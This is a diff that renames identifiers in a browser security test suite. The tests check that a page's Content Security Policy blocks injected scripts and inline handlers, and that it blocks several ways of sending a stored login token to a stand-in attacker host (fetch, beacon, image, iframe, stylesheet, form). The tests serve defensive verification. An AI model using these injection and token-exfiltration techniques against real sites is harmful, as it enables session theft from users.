@@ -4,12 +4,12 @@ import { test } from './helpers/test.ts'
 
 // An attacker who injects markup or scripts into a page must not run code or read the rider's token.
 
-const THIEF = 'https://thief.example.test'
+const ATTACKER_ORIGIN = 'https://thief.example.test'
 
 /** Collects the requests that reach the attacker's host. */
-async function watchThief(page: Page): Promise<string[]> {
+async function recordAttackerRequests(page: Page): Promise<string[]> {
   const reached: string[] = []
-  await page.context().route(`${THIEF}/**`, route => {
+  await page.context().route(`${ATTACKER_ORIGIN}/**`, route => {
     reached.push(route.request().url())
     return route.fulfill({ body: 'window.stolen = "by a script from elsewhere"', contentType: 'text/javascript' })
   })
@@ -25,46 +25,46 @@ async function signedInRider(page: Page): Promise<void> {
 }
 
 /** Waits for the page to finish earlier work, because a blocked script leaves nothing to wait for. */
-const nothingWasStolen = (page: Page) => page.evaluate(() => 'stolen' in window)
+const wasStolen = (page: Page) => page.evaluate(() => 'stolen' in window)
 
 test('injected scripts and inline handlers do not run', async ({ page, violations }) => {
-  const reached = await watchThief(page)
+  const reached = await recordAttackerRequests(page)
   await signedInRider(page)
-  await page.evaluate(thief => {
+  await page.evaluate(attackerOrigin => {
     const inline = document.createElement('script')
     inline.textContent = 'window.stolen = "by an inline script"'
     const foreign = document.createElement('script')
-    foreign.src = `${thief}/script.js`
+    foreign.src = `${attackerOrigin}/script.js`
     document.body.append(inline, foreign)
     const markup = document.createElement('div')
     markup.innerHTML =
       '<img alt="" src="data:," onerror="window.stolen = \'by a handler\'"><a href="#" onclick="window.stolen = 1">x</a>'
     document.body.append(markup)
     markup.querySelector('a')?.click()
-  }, THIEF)
+  }, ATTACKER_ORIGIN)
   await expect.poll(() => directives(violations)).toEqual(['script-src-attr', 'script-src-elem'])
   await expect.poll(() => violations.length).toBe(4)
-  expect(await nothingWasStolen(page)).toBe(false)
+  expect(await wasStolen(page)).toBe(false)
   expect(reached).toEqual([])
   violations.splice(0)
 })
 
 test('the token cannot be sent to a foreign host', async ({ page, violations }) => {
-  const reached = await watchThief(page)
+  const reached = await recordAttackerRequests(page)
   await signedInRider(page)
-  await page.evaluate(async thief => {
-    const loot = `${thief}/?token=${localStorage.getItem('token')}`
-    await fetch(loot).catch(() => undefined)
-    navigator.sendBeacon(loot)
-    new Image().src = loot
-    const frame = Object.assign(document.createElement('iframe'), { src: loot })
-    const sheet = Object.assign(document.createElement('link'), { href: loot, rel: 'stylesheet' })
-    const form = Object.assign(document.createElement('form'), { action: loot, method: 'post' })
+  await page.evaluate(async attackerOrigin => {
+    const exfiltrationUrl = `${attackerOrigin}/?token=${localStorage.getItem('token')}`
+    await fetch(exfiltrationUrl).catch(() => undefined)
+    navigator.sendBeacon(exfiltrationUrl)
+    new Image().src = exfiltrationUrl
+    const frame = Object.assign(document.createElement('iframe'), { src: exfiltrationUrl })
+    const sheet = Object.assign(document.createElement('link'), { href: exfiltrationUrl, rel: 'stylesheet' })
+    const form = Object.assign(document.createElement('form'), { action: exfiltrationUrl, method: 'post' })
     document.body.append(frame, sheet, form)
     form.submit()
-  }, THIEF)
-  const kept = ['connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']
-  await expect.poll(() => directives(violations)).toEqual(kept)
+  }, ATTACKER_ORIGIN)
+  const enforced = ['connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']
+  await expect.poll(() => directives(violations)).toEqual(enforced)
   expect(reached).toEqual([])
   violations.splice(0)
 })
@@ -79,6 +79,6 @@ test('a string is not evaluated as code', async ({ page, violations }) => {
     button.click()
   })
   await expect.poll(() => directives(violations)).toEqual(['script-src'])
-  expect(await nothingWasStolen(page)).toBe(false)
+  expect(await wasStolen(page)).toBe(false)
   violations.splice(0)
 })
